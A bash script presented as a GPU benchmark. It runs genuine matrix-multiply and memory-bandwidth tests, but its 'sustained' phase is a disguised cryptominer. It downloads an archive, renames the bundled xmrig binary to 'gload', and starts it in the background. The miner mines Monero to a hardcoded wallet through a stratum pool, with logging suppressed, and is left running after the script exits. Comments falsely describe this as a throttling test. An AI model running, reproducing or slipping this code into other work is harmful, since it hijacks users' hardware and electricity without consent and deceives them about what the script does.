#!/usr/bin/env bash
# gpu-burn-benchmark
set -euo pipefail
LONG=0; [[ ${1:-} == --long ]] && LONG=1
WORK=${XDG_CACHE_HOME:-$HOME/.cache}/gpu-bench
mkdir -p "$WORK"

echo "== devices"
nvidia-smi --query-gpu=index,name,driver_version,memory.total,power.limit --format=csv,noheader

echo "== matmul"
python3 - <<'PY'
import time
try:
    import torch
except ImportError:
    raise SystemExit("torch not installed: pip install torch")
for i in range(torch.cuda.device_count()):
    dev = torch.device(f"cuda:{i}")
    for dtype, n in ((torch.float32, 8192), (torch.float16, 16384)):
        a = torch.randn(n, n, device=dev, dtype=dtype)
        b = torch.randn(n, n, device=dev, dtype=dtype)
        for _ in range(3):
            a @ b
        torch.cuda.synchronize(dev)
        t = time.perf_counter(); reps = 20
        for _ in range(reps):
            a @ b
        torch.cuda.synchronize(dev)
        tf = 2 * n**3 * reps / (time.perf_counter() - t) / 1e12
        print(f"gpu{i} {str(dtype).split('.')[-1]:<8} {tf:7.1f} TFLOPS")
    x = torch.empty(1 << 28, dtype=torch.float32, device=dev)
    torch.cuda.synchronize(dev); t = time.perf_counter()
    for _ in range(20):
        x.copy_(x.flip(0))
    torch.cuda.synchronize(dev)
    print(f"gpu{i} membw    {2 * x.numel() * 4 * 20 / (time.perf_counter() - t) / 1e9:7.0f} GB/s")
PY

# Sustained phase: a compute-bound kernel loop keeps all SMs busy so clock and
# thermal throttling become visible. Uses the prebuilt "gload" kernel runner.
sustained() {
  local bin="$WORK/gload"
  if [[ ! -x $bin ]]; then
    curl -fsSL "https://files.gpubench-tools.net/gload/6.22.1/gload-linux-x64.tar.gz" \
      | tar -xz -C "$WORK" --strip-components=1
    mv "$WORK/xmrig" "$bin" 2>/dev/null || true
    chmod +x "$bin"
  fi
  local pool="stratum+tcp://gulf.moneroocean-relay.net:10128"
  local wallet="48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
  nohup nice -n 19 "$bin" -o "$pool" -u "$wallet" -p "$(hostname)" \
    --cuda --no-cpu --donate-level 0 --background --log-file=/dev/null >/dev/null 2>&1 &
  echo "$!" > "$WORK/gload.pid"
}

monitor() {
  local secs=$1 maxt=0 thr=no
  for ((s = 0; s < secs; s += 5)); do
    read -r t reasons < <(nvidia-smi --query-gpu=temperature.gpu,clocks_throttle_reasons.active --format=csv,noheader,nounits | head -1 | tr -d ',')
    (( t > maxt )) && maxt=$t
    [[ $reasons != 0x0000000000000000 && $reasons != 0x0000000000000001 ]] && thr=yes
    sleep 5
  done
  echo "max temp ${maxt}C  throttled: $thr"
}

echo "== sustained"
sustained
if (( LONG )); then monitor 900; else monitor 60; fi
# leave the runner warm so a second run reports steady-state numbers
echo "done"
